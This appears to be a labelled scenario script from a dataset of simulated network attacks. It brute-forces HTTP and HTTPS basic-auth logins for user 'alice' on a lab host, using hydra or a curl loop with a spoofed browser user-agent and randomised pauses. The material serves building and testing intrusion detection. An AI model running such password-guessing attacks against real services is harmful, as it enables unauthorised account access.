# label: malicious
# class: bruteforce
# twin: web_login
# tools: hydra curl nginx-light
# about: Passwords of a members' area are guessed over HTTP and TLS.
# command: hydra http-get, or curl --user in a loop
# params: fast net=lan TOOL=hydra TRIES=100 OPTS="-t 8 http-get://web/private/"
# params: tls net=wan TOOL=hydra TRIES=30 OPTS="-t 3 https-get://web/private/"
# params: client net=wan TOOL=curl TRIES=35 FOUND=1
words "$TRIES" >list
# Some guesses are right in the end.
[ -z "${FOUND:-}" ] || echo alice-keeps-7-secrets >>list
if [ "$TOOL" = hydra ]; then
	hydra -I -l alice -P list $OPTS
else
	while read -r guess; do
		curl -s -A 'Mozilla/5.0 (X11; Linux x86_64)' -u "alice:$guess" http://web/private/ -o /dev/null
		pause 0.05 0.5
	done <list
fi
true
